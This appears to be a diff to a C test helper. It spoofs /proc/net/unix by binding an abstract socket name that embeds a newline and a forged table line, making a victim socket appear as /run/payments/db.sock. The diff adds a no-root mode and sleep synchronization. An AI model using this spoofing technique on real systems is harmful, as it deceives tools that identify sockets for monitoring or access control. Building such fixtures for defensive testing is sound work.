@@ -4,6 +4,7 @@
  * pod's; a second thread moves to a network namespace of its own (needs CAP_SYS_ADMIN) and
  * blocks on a unix socket bound to an abstract name holding a newline and a forged table line
  * that gives the victim's socket the path /run/payments/db.sock.
+ * With the argument "same", the thread stays in the namespace of the pod (no root needed).
  * Prints "ready VICTIM_PID VICTIM_INODE FORGER_TID" and waits until killed; the victim dies
  * with it. */
 #define _GNU_SOURCE
@@ -24,10 +25,11 @@
 
 static unsigned long victim_inode;
 static int ready[2];
+static int same;
 
 static void *forger(void *arg) {
     (void)arg;
-    if (unshare(CLONE_NEWNET)) {
+    if (!same && unshare(CLONE_NEWNET)) {
         perror("unshare");
         exit(1);
     }
@@ -49,7 +51,25 @@ static void *forger(void *arg) {
         recv(s, buf, sizeof buf, 0);
 }
 
-int main(void) {
+/* Waits until the task at /proc/PATH/stat sleeps: in its blocking call, its only one. */
+static void await_sleep(const char *path) {
+    for (int i = 0; i < 5000; i++) {
+        char buf[512] = {0};
+        FILE *f = fopen(path, "r");
+        if (f) {
+            size_t n = fread(buf, 1, sizeof buf - 1, f);
+            fclose(f);
+            buf[n] = 0;
+            char *end = strrchr(buf, ')');
+            if (end && end[1] == ' ' && end[2] == 'S')
+                return;
+        }
+        usleep(1000);
+    }
+}
+
+int main(int argc, char **argv) {
+    same = argc > 1 && !strcmp(argv[1], "same");
     int pair[2];
     if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) || pipe(ready)) {
         perror("socketpair");
@@ -77,6 +97,11 @@ int main(void) {
     long tid;
     if (read(ready[0], &tid, sizeof tid) != sizeof tid)
         return 1;
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/stat", (int)victim);
+    await_sleep(path);
+    snprintf(path, sizeof path, "/proc/self/task/%ld/stat", tid);
+    await_sleep(path);
     printf("ready %d %lu %ld\n", (int)victim, victim_inode, tid);
     fflush(stdout);
     char buf[16];
